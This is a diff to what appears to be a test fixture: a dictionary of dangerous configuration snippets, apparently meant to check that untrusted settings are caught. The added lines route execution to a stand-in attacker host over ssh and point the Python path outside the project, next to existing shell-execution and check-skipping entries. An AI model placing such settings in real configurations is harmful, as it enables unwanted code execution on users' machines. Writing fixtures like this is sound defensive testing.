@@ -98,6 +98,8 @@ SETTINGS = {
     "landing_tools": f'[landing]\ntools = ["{RAN}"]',
     "notify": f'notify = "{RAN}"',
     "executor": f'executor = ["rrq:sh -c {RAN!r}"]',
+    "on": 'on = ["ssh:evil.example:1"]',
+    "places": '[places.mine]\nengine = "ray"\npython = "../ran"',
     "issue_commands": "issue_commands = true",
     "allow_module": 'allow_module = ["os"]',
     "skip_check": 'skip_check = ["agent"]',
